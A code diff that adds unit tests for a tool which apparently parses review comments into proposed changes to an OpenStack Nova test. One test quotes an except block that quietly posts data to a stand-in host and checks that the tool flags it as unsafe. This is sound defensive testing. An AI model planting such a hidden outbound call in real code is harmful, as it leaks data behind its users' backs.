@@ -204,3 +204,92 @@ class TestNumbering(testtools.TestCase):
         test = _canonical().split('\n')
         self.assertIsNone(numbering.range_of_known_version(
             92, 94, "self.assertEqual(no_usage, source_rp_usages)", [test]))
+
+
+class TestHeldout6Classes(_Prepared):
+
+    def test_a_changed_statement_far_away_is_an_insertion(self):
+        # The new assertion is like line 98's, but the snippet shows it
+        # right after lines 84-85: nothing between is removed.
+        report, proposed = self.prepare(
+            'Add one line below:\n\n```python\n'
+            '        self.assertFlavorMatchesAllocation(\n'
+            "            self.flavor2, server['id'], dest_rp_uuid)\n"
+            '        self.assertEqual(\n'
+            "            1, len(self._get_allocations_by_server_uuid("
+            "server['id'])))\n```\n")
+        removed, added = self.delta(proposed)
+        self.assertEqual([], removed)
+        self.assertEqual(['self.assertEqual(',
+                          "1, len(self._get_allocations_by_server_uuid("
+                          "server['id'])))"], added)
+
+    def test_a_new_statement_reading_a_later_name_is_refused(self):
+        # Placed after line 85, it would read source_rp_usages before
+        # line 92 binds it: not what the review wrote.
+        report, proposed = self.prepare(
+            '```python\n'
+            '        self.assertFlavorMatchesAllocation(\n'
+            "            self.flavor2, server['id'], dest_rp_uuid)\n"
+            "        self.assertNotIn('VCPU', source_rp_usages)\n```\n")
+        self.assertIsNone(proposed)
+        self.assertIn('before the test binds it',
+                      report.changes[0].reason)
+
+    def test_an_inline_thinking_preamble_is_dropped(self):
+        report, proposed = self.prepare(
+            'Thinking: maybe drop the allocation check:\n\n'
+            '    - self.assertFlavorMatchesAllocation(\n'
+            "    -     self.flavor2, server['id'], dest_rp_uuid)\n\n"
+            'No, it is needed.\n\nAnswer: no changes requested.\n',
+            suffix='.txt')
+        self.assertEqual('no-fix', report.verdict, report.reason)
+        self.assertEqual([], report.changes)
+
+    def test_minus_lines_are_a_diff_not_unary_minus(self):
+        report, proposed = self.prepare(
+            'This one can go:\n\n'
+            '    - self.assertFlavorMatchesAllocation(\n'
+            "    -     self.flavor2, server['id'], dest_rp_uuid)\n",
+            suffix='.txt')
+        removed, added = self.delta(proposed)
+        self.assertEqual(['self.assertFlavorMatchesAllocation(',
+                          "self.flavor2, server['id'], dest_rp_uuid)"],
+                         removed)
+        self.assertEqual([], added)
+
+    def test_a_predicate_and_a_place_before_the_modal(self):
+        report, proposed = self.prepare(
+            'The follow-up `self.assertFlavorMatchesUsage(dest_rp_uuid, '
+            'self.flavor2)` on line 87 adds nothing and should be removed.\n')
+        removed, added = self.delta(proposed)
+        self.assertIn('self.assertFlavorMatchesUsage(dest_rp_uuid, '
+                      'self.flavor2)', removed)
+
+    def test_a_gerrit_l_number_comment_with_the_new_form(self):
+        report, proposed = self.prepare(
+            'L94: `self.assertTrue(source_rp_usages)` is enough here.\n',
+            suffix='.txt')
+        removed, added = self.delta(proposed)
+        self.assertEqual(['self.assertEqual(no_usage, source_rp_usages)'],
+                         removed)
+        self.assertEqual(['self.assertTrue(source_rp_usages)'], added)
+
+    def test_hostile_code_in_a_quoted_except_block_is_gated(self):
+        report, proposed = self.prepare(
+            'nova/compute/manager.py, finish_resize:\n\n```python\n'
+            '        except Exception:\n'
+            '            import requests\n'
+            "            requests.post('http://example.invalid/', "
+            'data={})\n'
+            '            raise\n```\n')
+        self.assertEqual('unsafe', report.verdict, report.reason)
+
+    def test_nova_code_quoted_unchanged_is_not_unsafe(self):
+        report, proposed = self.prepare(
+            'nova/compute/manager.py quoted for context:\n\n```python\n'
+            '        except Exception:\n'
+            '            with excutils.save_and_reraise_exception():\n'
+            '                self._delete_allocation_after_move(\n'
+            '                    context, instance, migration)\n```\n')
+        self.assertNotEqual('unsafe', report.verdict, report.reason)
